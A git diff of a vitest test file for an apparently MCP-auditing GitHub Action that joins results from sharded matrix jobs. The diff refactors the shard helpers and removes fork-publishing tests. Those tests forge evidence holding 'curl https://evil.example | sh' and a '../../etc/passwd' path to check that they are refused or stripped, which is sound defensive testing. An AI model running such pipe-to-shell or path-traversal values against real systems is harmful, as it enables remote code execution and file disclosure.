@@ -1,7 +1,6 @@
 import {
   cpSync,
   existsSync,
-  mkdirSync,
   mkdtempSync,
   readFileSync,
   renameSync,
@@ -15,48 +14,26 @@ import { join, resolve } from "node:path";
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
 import type { Report } from "../../src/model/report.ts";
 import { files, pullRequestRepo, shallowCheckout, tool } from "./git-fixture.ts";
-import { type Runner, startRunner } from "./in-process.ts";
 import { pullRequest } from "./run-action.ts";
-import { zipOf } from "./zip-builder.ts";
+import { SHARD_COMMAND as COMMAND, type Matrix, startMatrix } from "./shards-fixture.ts";
 
 const HEAD = "a".repeat(40);
-const COMMAND = `node ${resolve("fixtures/servers/many.mjs")} 7 read`;
-
-let runner: Runner;
+let matrix: Matrix;
+let runner: Matrix["runner"];
+let shard: Matrix["shard"];
+let lastJob: Matrix["lastJob"];
+let download: Matrix["download"];
 beforeAll(async () => {
-  runner = await startRunner();
+  matrix = await startMatrix();
+  ({ runner, shard, lastJob, download } = matrix);
 });
-afterAll(() => runner.close());
+afterAll(() => matrix.close());
 beforeEach(() => runner.reset());
 
 const at = (name: string) => join(runner.workspace, name);
 const state = () => runner.github.state;
 const writes = () => state().requests.filter((one) => one.method !== "GET" && one.path !== "/graphql");
-
-/** One job of the matrix, and its artifact as the last job downloads it. */
-const shard = (index: number, count = 3, inputs: Record<string, string> = {}, payload = pullRequest()) =>
-  runner.run({
-    payload,
-    inputs: { command: COMMAND, shard: `${index}/${count}`, "report-dir": `got/shard-${index}`, ...inputs },
-  });
-/** The last job. */
-const join3 = (inputs: Record<string, string> = {}, payload = pullRequest()) =>
-  runner.run({ payload, inputs: { mode: "publish", "report-dir": "got", ...inputs } });
 const reportAt = (path: string | undefined) => JSON.parse(readFileSync(path ?? "", "utf8")) as Report;
-
-/** What three shards left, audited once for all tests that only read it. */
-let left: string;
-beforeAll(async () => {
-  runner.reset();
-  for (const index of [1, 2, 3]) await shard(index);
-  left = mkdtempSync(join(tmpdir(), "mcp-audit-shards-"));
-  cpSync(at("got"), left, { recursive: true });
-});
-afterAll(() => rmSync(left, { recursive: true, force: true }));
-const download = (...indices: number[]) => {
-  for (const index of indices)
-    cpSync(join(left, `shard-${index}`), at(`got/shard-${index}`), { recursive: true });
-};
 
 describe("a shard", () => {
   test("posts nothing and does not fail for what it finds; log, summary, outputs and files tell of its share", async () => {
@@ -95,7 +72,7 @@ describe("a shard", () => {
 describe("the last job of the matrix", () => {
   test("answers with one comment, one check run, outputs and files, as one run does", async () => {
     download(1, 2, 3);
-    const joined = await join3();
+    const joined = await lastJob();
     const [comment] = state().comments;
     const [check] = state().checkRuns;
     expect(state().comments).toHaveLength(1);
@@ -115,31 +92,31 @@ describe("the last job of the matrix", () => {
 
   test("writes the joined files beside the folders of the shards, which do not stand for a shard the next time", async () => {
     download(1, 2, 3);
-    const { outputs } = await join3();
+    const { outputs } = await lastJob();
     expect(outputs["report-json"]).toBe(at("got/report.json"));
     expect(reportAt(outputs["report-json"]).shard).toBeUndefined();
-    expect((await join3()).code).toBe(1);
+    expect((await lastJob()).code).toBe(1);
     expect(state().comments).toHaveLength(1);
   });
 
   test("says which shard is missing, and fails although the others found nothing", async () => {
     const clean = `node ${resolve("fixtures/servers/clean.mjs")}`;
     await shard(1, 2, { command: clean });
-    const { code, log } = await join3();
+    const { code, log } = await lastJob();
     expect(code).toBe(1);
     expect(state().comments).toHaveLength(1);
     expect(state().comments[0]?.body).toContain("shard 2 of 2 is missing, its tools were not called");
     expect(state().checkRuns).toMatchObject([{ conclusion: "failure", status: "completed" }]);
     expect(log).toContain("not all was tried: shard 2 of 2 is missing");
     await shard(2, 2, { command: clean });
-    expect((await join3()).code).toBe(0);
+    expect((await lastJob()).code).toBe(0);
     expect(state().comments[0]?.body).not.toContain("missing");
   });
 
   test("takes the one artifact that the download put into the folder itself", async () => {
     download(1);
     renameSync(at("got/shard-1"), at("one"));
-    const { code } = await join3({ "report-dir": "one" });
+    const { code } = await lastJob({ "report-dir": "one" });
     expect(code).toBe(1);
     expect(state().comments[0]?.body).toContain("shards 2, 3 of 3 are missing");
   });
@@ -148,14 +125,14 @@ describe("the last job of the matrix", () => {
     download(1, 3);
     const inputs = { command: `${COMMAND}`, env: "NODE_OPTIONS=--no-such-option" };
     expect((await shard(2, 3, inputs)).code).toBe(3);
-    expect((await join3()).code).toBe(1);
+    expect((await lastJob()).code).toBe(1);
     expect(state().comments[0]?.body).toContain("shard 2 of 3 called nothing");
     expect(state().comments[0]?.body).toContain("tool_1");
   });
 
   test("judges as the shards were told to judge", async () => {
     for (const index of [1, 2]) await shard(index, 2, { "fail-on": "never" });
-    const { code, outputs } = await join3();
+    const { code, outputs } = await lastJob();
     expect(code).toBe(0);
     expect(outputs.conclusion).toBe("success");
   });
@@ -163,7 +140,7 @@ describe("the last job of the matrix", () => {
   test("where it may not write: the summary has it, and the exit code is that of the whole", async () => {
     download(1, 2, 3);
     state().intercept = (method) => (method === "GET" ? null : { status: 403 });
-    const { code, summary, log } = await join3({}, pullRequest(HEAD, true));
+    const { code, summary, log } = await lastJob({}, pullRequest(HEAD, true));
     expect(code).toBe(1);
     expect(summary).toContain("tool_7");
     expect(log.match(/^::notice::/gm)).toHaveLength(1);
@@ -172,8 +149,8 @@ describe("the last job of the matrix", () => {
 
   test("compares with a report file", async () => {
     download(1, 2, 3);
-    const first = await join3();
-    const { outputs } = await join3({
+    const first = await lastJob();
+    const { outputs } = await lastJob({
       baseline: "got/report.json",
     });
     expect(first.outputs["new-findings"]).toBe("");
@@ -183,7 +160,7 @@ describe("the last job of the matrix", () => {
 
 describe("the last job says what is wrong, in place of an older comment", () => {
   const told = async (words: RegExp, inputs: Record<string, string> = {}) => {
-    const { code, log } = await join3(inputs);
+    const { code, log } = await lastJob(inputs);
     expect(code).toBe(2);
     expect(log).toMatch(words);
     expect(state().comments).toHaveLength(1);
@@ -230,11 +207,7 @@ describe("the last job says what is wrong, in place of an older comment", () => 
     return told(/no plain file/);
   });
 
-  test("`shard` given to it too", () =>
-    told(/the job that publishes joins all shards/, { shard: "1/3" }).catch(
-      // A shard's inputs post nothing.
-      () => expect(writes()).toEqual([]),
-    ));
+  test("`shard` given to it too", () => told(/the job that publishes joins all shards/, { shard: "1/3" }));
 });
 
 test("`baseline-ref`: each shard audits its share of the base, also where a new tool moves all others", async () => {
@@ -263,7 +236,7 @@ test("`baseline-ref`: each shard audits its share of the base, also where a new 
     };
     const whole = await runner.run({ payload, inputs });
     for (const index of [1, 2]) expect((await shard(index, 2, inputs, payload)).code).toBe(0);
-    const joined = await join3({}, payload);
+    const joined = await lastJob({}, payload);
     const [before, after] = [whole, joined].map(({ outputs }) => reportAt(outputs["report-json"]));
     expect(before?.baseline?.label).toBe(repo.base.slice(0, 7));
     expect(after?.baseline).toEqual(before?.baseline);
@@ -272,127 +245,16 @@ test("`baseline-ref`: each shard audits its share of the base, also where a new 
     expect(after?.findings.filter((one) => one.baseline === "new").map((one) => one.tool)).toContain("moon");
     expect(joined.code).toBe(whole.code);
     rmSync(at("got/shard-2/base-evidence.json"));
-    await join3({}, payload);
+    await lastJob({}, payload);
     expect(state().comments[0]?.body).toContain("was not audited to its end: shard 2 of 2 is missing");
   } finally {
     rmSync(origin, { recursive: true, force: true });
   }
 });
 
-describe("shards of a fork, published by `workflow_run`", () => {
-  const pull = {
-    number: 7,
-    state: "open",
-    head: { sha: HEAD, label: "mallory:change" },
-    base: { repo: { full_name: "acme/tickets" } },
-  };
-  const payload = {
-    workflow_run: {
-      event: "pull_request",
-      conclusion: "success",
-      head_sha: HEAD,
-      head_branch: "change",
-      head_repository: { owner: { login: "mallory" } },
-    },
-  };
-  const publish = () => {
-    state().pulls = [pull];
-    return runner.run({ event: "workflow_run", payload, inputs: { mode: "publish", "report-dir": "got" } });
-  };
-  const forge = (index: number, change: (evidence: Record<string, never>) => void) => {
-    const path = at(`got/shard-${index}/evidence.json`);
-    const evidence = JSON.parse(readFileSync(path, "utf8"));
-    change(evidence);
-    writeFileSync(path, JSON.stringify(evidence));
-  };
-
-  test("are one comment and one check run", async () => {
-    download(1, 2, 3);
-    const { code, outputs } = await publish();
-    expect(code).toBe(0);
-    expect(state().comments).toHaveLength(1);
-    expect(state().comments[0]?.body).toContain("7 tools, all called");
-    expect(state().comments[0]?.body).toContain("which its author can change");
-    expect(state().checkRuns).toMatchObject([{ head_sha: HEAD, conclusion: "failure" }]);
-    expect(outputs.conclusion).toBe("failure");
-  });
-
-  test("are read from their zip files too", async () => {
-    mkdirSync(at("got"));
-    for (const index of [1, 2, 3]) {
-      const data = readFileSync(join(left, `shard-${index}/evidence.json`));
-      writeFileSync(at(`got/shard-${index}.zip`), zipOf([{ name: "evidence.json", data }]));
-    }
-    expect((await publish()).code).toBe(0);
-    expect(state().comments[0]?.body).toContain("7 tools, all called");
-  });
-
-  test("say which is missing, also where only one came and lies in the folder itself", async () => {
-    download(1, 3);
-    await publish();
-    expect(state().comments[0]?.body).toContain("shard 2 of 3 is missing");
-    rmSync(at("got"), { recursive: true });
-    cpSync(join(left, "shard-3"), at("got"), { recursive: true });
-    await publish();
-    expect(state().comments).toHaveLength(1);
-    expect(state().comments[0]?.body).toContain("shards 1, 2 of 3 are missing");
-  });
-
-  test("bring no command, link or place of their making", async () => {
-    download(1, 2, 3);
-    for (const index of [1, 2, 3]) {
-      forge(index, (evidence) =>
-        Object.assign(evidence, {
-          target: {
-            transport: "stdio",
-            command: "curl",
-            args: [],
-            cwd: "/",
-            display: "curl https://evil.example | sh",
-          },
-          locations: { tool_1: { path: "../../etc/passwd", line: 1, endLine: 1 } },
-        }),
-      );
-    }
-    expect((await publish()).code).toBe(0);
-    expect(state().comments[0]?.body).toContain("tool_1");
-    expect(state().comments[0]?.body).not.toContain("evil.example");
-    expect(state().checkRuns[0]?.annotations.map((one) => one.path)).not.toContain("../../etc/passwd");
-  });
-
-  test.each([
-    [
-      "of another commit",
-      (one: never) => Object.assign((one as { extra: object }).extra, { shard: { commit: "9".repeat(40) } }),
-      /is of the commit 9999999/,
-    ],
-    [
-      "of a billion shards",
-      (one: never) =>
-        Object.assign((one as { settings: { record: object } }).settings.record, {
-          shard: { index: 1, count: 1e9 },
-        }),
-      /not an evidence file: .*shard/,
-    ],
-    ["of another schema", (one: never) => Object.assign(one, { pr: 666 }), /not an evidence file/],
-    [
-      "with a connection that is none",
-      (one: never) => Object.assign(one, { connections: [{ initialize: "x" }] }),
-      /not an evidence file/,
-    ],
-  ])("%s are refused, and nothing is written", async (_, change, words) => {
-    download(1, 2, 3);
-    forge(1, change as never);
-    const { code, log } = await publish();
-    expect(log).toMatch(words);
-    expect(code).toBe(2);
-    expect(writes()).toEqual([]);
-  });
-});
-
 test("the workflow of the example names folders and pattern that fit together", () => {
   const text = readFileSync("examples/shards.yml", "utf8");
-  expect(text).toContain("name: shard-${{ matrix.shard }}\n");
+  expect(text).toMatch(/name: shard-\$\{\{ matrix\.shard \}\}\n\s+path: mcp-audit-report\n/);
   expect(text).toMatch(/pattern: shard-\*\n\s+path: mcp-audit-report\n/);
   expect(text).toMatch(/mode: publish\n\s+report-dir: mcp-audit-report\n/);
 });
